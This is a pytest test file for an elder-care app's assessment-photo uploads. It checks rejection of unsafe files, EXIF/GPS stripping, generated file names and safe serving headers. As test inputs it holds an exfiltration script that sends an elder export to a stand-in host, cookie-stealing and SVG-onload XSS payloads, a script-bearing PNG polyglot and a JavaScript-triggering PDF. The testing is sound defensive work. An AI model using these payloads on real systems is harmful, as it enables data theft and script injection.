"""Document photos of an assessment: only real images or clean PDFs are stored, under generated names, and they
come back with the verified type and headers that stop a browser from running anything in them."""
import datetime as dt
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from carecircle.assessment import services
from carecircle.assessment.models import AssessmentPhoto
from carecircle.core.models import AuditEvent

pytestmark = pytest.mark.django_db


def _jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (40, 30), (180, 40, 40))
    exif = Image.Exif()
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (31.0, 12.0, 30.0), "E", (121.0, 26.0, 0.0)
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


@pytest.fixture
def started(team, district, users, client):
    order = services.assessment_order_create(elder=district.elders.a1, actor=users.street_staff, programme="ltci",
                                             reason="application", agency=district.agency)
    services.assessment_order_schedule(order=order, actor=team.first, assessors=[team.first, team.second],
                                       appointment_at=dt.datetime(2026, 11, 24, 9, 0))
    assessment = services.assessment_start(order=order, actor=team.first)
    client.force_login(team.first)
    return assessment


def _upload(client, assessment, name, content, content_type="image/png"):
    return client.post(f"/assessment/a/{assessment.pk}/step/0/",
                       {"upload": "1", "image": SimpleUploadedFile(name, content, content_type=content_type)})


@pytest.mark.parametrize("name,content", [
    ("payload.js", b"fetch('/elders/export.csv').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"),
    ("view.html", b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
    ("diagram.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'),
    # A real PNG with a page hidden in a text chunk: decodes as an image, yet is built to be sniffed as HTML.
    ("polyglot.png", None),
])
def test_script_page_svg_and_polyglot_sent_as_png_are_refused_on_the_form(started, client, name, content):
    if content is None:
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "<script>alert(document.domain)</script>")
        buffer = io.BytesIO()
        Image.new("RGB", (8, 8)).save(buffer, format="PNG", pnginfo=info)
        content = buffer.getvalue()
    response = _upload(client, started, name, content)
    assert response.status_code == 400
    errors = response.context["photo_form"].errors["image"]
    assert errors and ("图片" in errors[0] or "脚本" in errors[0])
    assert not started.photos.exists()
    assert not AuditEvent.objects.filter(action="assessment.photo.add").exists()


def test_a_jpeg_is_stored_re_encoded_without_its_gps_under_a_generated_name(started, client):
    original = _jpeg_with_gps()
    response = _upload(client, started, "IMG_0001 张三明 身份证.jpg", original, content_type="application/octet-stream")
    assert response.status_code == 302
    photo = started.photos.get()
    assert photo.content_type == "image/jpeg"
    stored = photo.image.read()
    assert stored != original and b"Exif" not in stored
    assert not Image.open(io.BytesIO(stored)).getexif().get_ifd(0x8825)
    filename = photo.image.name.rsplit("/", 1)[-1]
    assert "张三明" not in photo.image.name and "IMG_0001" not in photo.image.name
    assert len(filename) == 36 and filename.endswith(".jpg")

    served = client.get(f"/assessment/photos/{photo.pk}/")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Disposition"].startswith("inline")
    assert "张三明" not in served["Content-Disposition"]
    assert "sandbox" in served["Content-Security-Policy"] and "default-src 'none'" in served["Content-Security-Policy"]
    assert "no-store" in served["Cache-Control"]


def test_a_pdf_is_stored_and_served_only_as_an_attachment(started, client):
    pdf = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] "
           b"/Count 0 >>\nendobj\nxref\n0 3\ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n9\n%%EOF\n")
    assert _upload(client, started, "summary.pdf", pdf, content_type="application/pdf").status_code == 302
    photo = started.photos.get()
    served = client.get(f"/assessment/photos/{photo.pk}/")
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"].startswith("attachment")
    scripted = pdf.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    assert _upload(client, started, "s.pdf", scripted, content_type="application/pdf").status_code == 400
    assert started.photos.count() == 1


def test_a_file_stored_before_checking_is_only_ever_a_download(started, client):
    """Files written before content checks have no verified type: never inline, never their own type."""
    photo = AssessmentPhoto.objects.create(assessment=started, sha256="0" * 64,
                                           image=ContentFile(b"<script>alert(1)</script>", name="view.html"))
    served = client.get(f"/assessment/photos/{photo.pk}/")
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment") and ".html" not in served["Content-Disposition"]
    assert served["X-Content-Type-Options"] == "nosniff"


def test_the_size_limit_is_the_policy_parameter_in_force(started, client, district):
    from carecircle.core.policy_seed import policy_parameters_seed

    buffer = io.BytesIO()
    Image.effect_noise((900, 900), 90).convert("RGB").save(buffer, format="PNG")
    big = buffer.getvalue()
    assert len(big) > 1024 * 1024
    assert _upload(client, started, "big.png", big).status_code == 302
    policy_parameters_seed(raw_values=[{
        "key": "uploads.max_size_mb", "region": "310104", "value": {"default": 10, "document": 1},
        "effective_from": "2025-01-01", "source": "test", "confidence": "local", "note": ""}])
    response = _upload(client, started, "big.png", big)
    assert response.status_code == 400 and "1.0 MB" in response.context["photo_form"].errors["image"][0]
    assert started.photos.count() == 1
